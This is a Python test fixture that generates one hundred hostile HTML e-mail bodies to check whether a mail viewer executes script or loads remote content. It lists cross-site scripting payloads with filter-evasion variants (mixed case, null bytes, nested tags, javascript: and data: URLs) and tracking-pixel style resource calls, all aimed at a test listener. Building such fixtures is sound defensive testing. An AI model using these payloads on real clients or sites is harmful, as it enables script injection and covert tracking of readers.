"""A hundred e-mails that try to do something to whoever looks at them: run a script, or call home."""

from __future__ import annotations

TRAP = "http://{host}/trap"
"""What each of them tries to reach; `{host}` is where the test listens."""

_SCRIPTS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src='{url}'></script>",
    "<<script>{js}//<</script>",
    "<script\x00>{js}</script>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href='{url}'/></svg>",
    "<math><script>{js}</script></math>",
    "<noscript><p title='</noscript><script>{js}</script>'>",
    "<textarea></textarea><script>{js}</script>",
    "<title></title><script>{js}</script>",
    "<style></style><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<xmp><script>{js}</script></xmp>",
    "<plaintext><script>{js}</script>",
    "<template><script>{js}</script></template>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<p>x</p><script type=module>{js}</script>",
    "<script type='text/javascript;version=1.8'>{js}</script>",
    "<script>/*</script><script>*/{js}</script>",
    "</body></html><script>{js}</script>",
    "<select><script>{js}</script></select>",
)
_HANDLERS = (
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'>",
    "<IMG SRC=x ONERROR={js}>",
    "<img/src=x/onerror={js}>",
    "<svg onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<video src=x onerror={js}>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<marquee onstart={js}>",
    "<p tabindex=0 autofocus onfocus={js}>",
    "<div onpointerrawupdate={js}>x</div>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<object data=x onerror={js}>",
    "<iframe onload={js}></iframe>",
    "<a autofocus href=# onfocus={js}>x</a>",
    "<table background=x onload={js}><tr><td>x",
    "<xss style='animation-name:x' onanimationstart={js}></xss>",
    "<p style='animation:x 1s' onanimationend={js}>",
    "<img srcset='x 1x' onerror={js}>",
    "<picture><source srcset=x><img onerror={js}></picture>",
)
_ADDRESSES = (
    "<a href='javascript:{js}' autofocus>x</a>",
    "<a href=' jav&#x09;ascript:{js}'>x</a>",
    "<a href='JaVaScRiPt:{js}'>x</a>",
    "<iframe src='javascript:{js}'></iframe>",
    "<form action='javascript:{js}'><button autofocus>x",
    "<object data='javascript:{js}'>",
    "<embed src='javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href='javascript:{js}//'>",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<math href='javascript:{js}'>x</math>",
    "<svg><use href='data:image/svg+xml,<svg onload={js}>'></svg>",
    "<img src='javascript:{js}'>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<iframe src='data:text/html,<script>{js}</script>'></iframe>",
)
_CALLS = (
    "<img src='{url}'>",
    "<img srcset='{url} 1x'>",
    "<img src='//{host}/trap'>",
    "<IMG SRC='{url}' WIDTH=1 HEIGHT=1>",
    "<picture><source srcset='{url}'><img></picture>",
    "<video src='{url}' autoplay></video>",
    "<video poster='{url}'></video>",
    "<audio src='{url}' autoplay></audio>",
    "<track src='{url}' default>",
    "<embed src='{url}'>",
    "<object data='{url}'></object>",
    "<iframe src='{url}'></iframe>",
    "<frameset><frame src='{url}'></frameset>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<link rel=preconnect href='{url}'>",
    "<link rel=dns-prefetch href='//{host}'>",
    "<link rel=icon href='{url}'>",
    "<link rel=manifest href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv='Link' content='<{url}>; rel=preload'>",
    "<base href='http://{host}/'><img src=trap>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<p style=\"background:url('{url}')\">x</p>",
    "<p style='background:u\\72l({url})'>x</p>",
    "<p style='list-style-image:image-set(\"{url}\" 1x)'>x</p>",
    "<table background='{url}'><tr><td>x</table>",
    "<body background='{url}'>",
    "<input type=image src='{url}'>",
    "<svg><image href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><filter><feImage href='{url}'/></filter></svg>",
)
HTML = (*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_CALLS)


def mails(host: str) -> list[str]:
    """The hundred, for a listener at `host`: each would send it word, one way or another."""
    url = TRAP.format(host=host)
    js = f"new(Image)().src=`{url}?script`"
    made = [text.format(js=js, url=url, host=host) for text in HTML]
    assert len(made) == 100, len(made)
    return made
